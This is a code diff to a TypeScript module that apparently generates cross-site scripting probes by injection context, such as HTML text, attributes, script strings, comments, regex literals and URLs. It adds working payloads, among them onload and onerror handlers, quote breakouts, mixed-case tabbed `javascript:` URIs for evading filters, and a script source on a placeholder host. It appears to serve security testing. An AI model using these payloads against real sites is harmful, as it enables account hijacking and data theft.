@@ -19,28 +19,29 @@ function newElement(end: string, needs: string): Vector {
 }
 
 /**
- * Between tags, for filters that know one of them: such as drop the first tag, words of scripts, handlers, or whatever ends
- * with `>`, which the page goes on with anyway; last for what is decoded after it was encoded.
+ * Between tags, for filters that know one of them: such as drop the first sign or tag, words of scripts, handlers, whatever
+ * ends with `>`, which the page goes on with anyway, or parentheses; last for what is decoded after it was encoded.
  */
 const IN_TEXT: readonly Vector[] = [
-  newElement("", ""),
+  newElement("<", ""),
   vector("<>", (name) => `<x><img src=x onerror=${name}()>`),
   vector("<>", (name) => `<script>${name}()</script>`),
   vector("<", (name) => `<img src=x onerror=${name}()//`),
+  vector("<>`", (name) => `<svg/onload=${name}\`\`>`),
   vector("<>:", (name) => `<iframe src=javascript:${name}()>`),
   vector("%", (name) => `%3Csvg/onload=${name}()%3E`),
 ];
 
 const QUOTES = { double: '"', single: "'", none: "" } as const satisfies Record<Quoting, string>;
 
-/** A handler beside the attribute that the value stands in. */
+/** A handler beside the attribute that the value stands in; what follows the value becomes an attribute of its own. */
 function handlerBeside(quoting: Quoting): Vector {
   const quote = QUOTES[quoting];
   if (quote === "") return vector("", (name) => ` onfocus=${name}() `);
-  return vector(quote, (name) => `${quote}onfocus=${quote}${name}()`);
+  return vector(quote, (name) => `${quote}onfocus=${quote}${name}()${quote}x=${quote}`);
 }
 
-/** `tail`: what closes what is open where the string ends, as the rest of its line becomes a comment. */
+/** `tail`: closes what the rest of the line closes, as that becomes a comment. */
 function inString(quote: string, tail = ""): Vector[] {
   return [
     vector(quote, (name) => `${quote}-${name}()-${quote}`),
@@ -49,25 +50,38 @@ function inString(quote: string, tail = ""): Vector[] {
   ];
 }
 
+function inPattern(tail = ""): Vector[] {
+  return [vector("/", (name) => `/-${name}()${tail}//`)];
+}
+
 const BY_PLACE: Readonly<Record<ScriptPlace, readonly Vector[]>> = {
   "single-quoted": inString("'"),
   "double-quoted": inString('"'),
   template: [vector("", (name) => `\${${name}()}`)],
   code: [vector("", (name) => `${name}()`, true)],
   "line-comment": [vector("\n", (name) => `\n${name}()//`)],
-  "block-comment": [vector("/", (name) => `*/${name}()/*`)],
-  regexp: [],
+  "block-comment": [vector("/", (name) => `*/;${name}();/*`)],
+  regexp: inPattern(),
 };
+
+/** The second for those that look for the word: browsers drop tabs and know it in any case. */
+const SCRIPT_ADDRESSES: readonly Vector[] = [
+  vector(":", (call) => `javascript:${call}()`, true),
+  vector(":", (call) => `JaVa\tScRiPt:${call}()`, true),
+];
 
 type AttributeContext = Extract<ReflectionContext, { kind: "attribute" }>;
 
 function attributeVectors({ element, name, quoting, role, isWhole, place }: AttributeContext): Vector[] {
   const isSource = element === "script" && name === "src";
+  // The browser undoes entities before it reads a script, a document or an address, so that signs survive in any form.
+  const undone = (vectors: readonly Vector[]) => vectors.map((one) => ({ ...one, needs: "" }));
   return [
-    // The browser undoes entities before it runs a handler, so that quotes survive in any form.
-    ...(place ? BY_PLACE[place].map((one) => ({ ...one, needs: "" })) : []),
+    ...(place ? undone(BY_PLACE[place]) : []),
+    ...(place === "single-quoted" ? [vector("&;", (call) => `&#39;-${call}()-&#39;`)] : []),
+    ...(role === "document" ? undone(IN_TEXT.slice(0, 1)) : []),
     ...(role === "url" && isWhole && isSource ? [vector("/", (host) => `//${host}.example/`, true)] : []),
-    ...(role === "url" && isWhole && !isSource ? [vector(":", (call) => `javascript:${call}()`, true)] : []),
+    ...(role === "url" && isWhole && !isSource ? SCRIPT_ADDRESSES : []),
     handlerBeside(quoting),
     newElement(`${QUOTES[quoting]}>`, QUOTES[quoting]),
   ];
@@ -75,7 +89,8 @@ function attributeVectors({ element, name, quoting, role, isWhole, place }: Attr
 
 function scriptVectors({ place, tail }: Extract<ReflectionContext, { kind: "script" }>): readonly Vector[] {
   if (place === "single-quoted") return inString("'", tail);
-  return place === "double-quoted" ? inString('"', tail) : BY_PLACE[place];
+  if (place === "double-quoted") return inString('"', tail);
+  return place === "regexp" ? inPattern(tail) : BY_PLACE[place];
 }
 
 /** Ways out of a place, the one that needs least first. None where nothing runs: JSON, text, headers. */
